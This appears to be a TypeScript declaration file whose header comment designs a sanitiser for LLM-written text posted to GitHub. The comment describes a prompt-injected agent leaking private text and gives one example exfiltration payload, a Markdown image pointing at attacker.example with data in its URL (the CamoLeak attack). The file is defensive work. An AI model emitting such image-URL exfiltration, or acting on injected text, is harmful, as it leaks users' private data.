/**
 * Sanitising handoff text for a GitHub comment or job summary (DESIGN §6, issue 5).
 *
 * Everything in a handoff was written by an LLM that may have read attacker text, and it is posted under
 * the workflow's identity. The output of this module is Markdown that GitHub renders as the *text* the
 * agent wrote, and nothing more:
 *
 * - no notification: every `@user` and `@org/team` ends up inside a code span. GitHub does not link or
 *   notify mentions inside code (its mention filter skips `code`/`pre`), backticks are plain ASCII (no
 *   zero-width tricks, which this module strips anyway), and the name stays readable;
 * - no references to issues, pull requests or discussions: GitHub links each, adds a "mentioned this" entry
 *   to the timeline of the one it names (a backlink the agent could post by the hundred), and closes it after
 *   a closing keyword (`fixes #1`). Every `#1`, `GH-1` and `owner/repo#1` is put in a code span, which GitHub
 *   neither links nor acts on, and so is every URL of one (`https://github.com/o/r/issues/3`, `…/pull/4`,
 *   `…/discussions/5`, on any host, for GitHub Enterprise Server): bare, in `<…>`, or as a link's target, where
 *   the link becomes its text followed by the URL in code;
 * - no hidden text: HTML comments are removed, and every other `<` is escaped, so raw HTML (`<details>`,
 *   `<img>`, an unterminated comment) shows as the text it is and hides nothing. Tags are escaped, not
 *   removed: text in angle brackets is often no HTML at all (`data.<key>`, `Vec<String>`), and removing it
 *   would change what the text says;
 * - no requests to other hosts: every image of a comment or summary is loaded, without a click, by everyone
 *   who views it (through GitHub's image proxy), so an agent that read attacker text could send private text
 *   out in an image's URL (`![x](https://attacker.example/p.png?d=…)`, the CamoLeak attack). An image is
 *   kept only for an `https:` URL on GitHub's own hosts (`isGitHubImage`: github.com, `*.githubusercontent.com`
 *   but the image proxy, and the GitHub server the text is shown on, `SanitizeOptions.serverUrl`); any other
 *   `https:` image becomes a link that says it is one (`[image: x](https://…)`), followed only by a reader
 *   who chooses to, or inside a link's text (a badge) that text alone. Links are kept only for `https:`
 *   URLs. Other URLs become their text (bare `http:`/`www.` URLs become code); reference-style links are
 *   resolved here and their definitions dropped, and every other `[`/`]` is escaped, so no link or image can
 *   form from leftovers (nor from a `!` left before a link this module made: see `Pieces.resolve`);
 * - no invisible characters (zero-width, bidi controls, Unicode tags, variation-selector smuggling);
 * - no secrets (`redactText`, before and after the rewriting, since removing a comment can join two halves);
 * - no forged sticky-comment marker: `baton:report:` is rewritten wherever it appears, code included;
 * - no runaway code: a fence left open is closed at the end of the text, so it cannot swallow the report;
 * - no code that is not code: text is passed through unsanitised only inside a fenced block this module
 *   emits itself, at column 0 after a blank line and with a fence longer than any run inside, so that the
 *   renderer sees a top-level code block exactly where this module assumed one (see `emitCodeBlock`).
 *
 * The approach is "escape unless understood": constructs this module recognises are rebuilt from parts it
 * checked; anything else is left as escaped literal text. In particular every backtick is either part of a
 * code span opened and closed on the same line (so GitHub pairs it exactly as here) or escaped, which is
 * what makes "inside a code span" a guarantee rather than a guess.
 *
 * Every pass is linear in the length of the text, whatever the text (a report job stuck in a regular
 * expression cannot even be cancelled): links are read by the scanners of link-syntax.ts, searches that
 * could restart at every position are loops that remember what they found, and in each regular expression
 * here no two parts can match the same characters one way or another unless nothing after them can fail,
 * so a match backtracks over no more than it read. sanitize-linear.test.ts holds the inputs that made the
 * expressions this module had before take hours.
 */
/** Options shared by the sanitising functions. */
export interface SanitizeOptions {
    /** Secret values to redact, besides the token shapes `redactText` knows. */
    secrets?: readonly string[];
    /**
     * The URL of the GitHub server the text is shown on (the runner's `GITHUB_SERVER_URL`): images on its host
     * (and port) are kept, besides those on github.com and githubusercontent.com. For GitHub Enterprise (a
     * server of its own, or GHE.com); absent, or a URL that does not parse, adds no host.
     */
    serverUrl?: string;
}
/** Remove invisible characters and normalise line ends (`\r\n`, `\r`, U+2028, U+2029 become `\n`). */
export declare function removeInvisible(text: string): string;
/**
 * Sanitise block Markdown (a summary, a detail, a failure reason): the result is safe to place between blank
 * lines anywhere at the top level of a report, or inside `<details>`.
 */
export declare function sanitizeMarkdown(text: string, secretsOrOptions?: readonly string[] | SanitizeOptions): string;
/**
 * `text` as one plain fenced code block (redacted, marker neutralised, a fence longer than any run in it):
 * what shows untrusted text when nothing finer can be trusted to render as intended.
 */
export declare function codeBlock(text: string, secretsOrOptions?: readonly string[] | SanitizeOptions): string;
/**
 * Sanitise text for one line of Markdown (a table cell, a list entry, a heading): newlines become spaces and
 * fences are not recognised, so the result never opens a block.
 */
export declare function sanitizeInline(text: string, secretsOrOptions?: readonly string[] | SanitizeOptions): string;
/**
 * Sanitise text for a GFM table cell: inline sanitising, then `|` escaped. Newlines become `<br>`, which
 * this module adds itself after every `<` of the text was escaped. A pipe ends a cell unless an odd number
 * of backslashes comes before it: one already escaped (`\|`, `\\\|`) is left as it is, and reads as it
 * does outside a table; one after an even number (none, `\\|`) gets one more, so it reads as the text's
 * own backslashes and then the pipe.
 */
export declare function sanitizeTableCell(text: string, secretsOrOptions?: readonly string[] | SanitizeOptions): string;
/**
 * Untrusted text shown as inline code (a path, a JSON path): one line, invisible characters removed,
 * secrets redacted, the marker neutralised, in a fence longer than any backtick run inside. Nothing in a
 * code span is interpreted, so mentions and references in it are inert. Not for table cells (`|`).
 */
export declare function inlineCode(text: string, secretsOrOptions?: readonly string[] | SanitizeOptions): string;
/**
 * An https URL in a form safe to put in a link destination, or null. Anything but `https:` with a host is
 * refused (http, data, javascript, relative, protocol-relative). Characters that could end the destination
 * or start a code span are percent-encoded.
 */
export declare function safeHttpsUrl(raw: string): string | null;
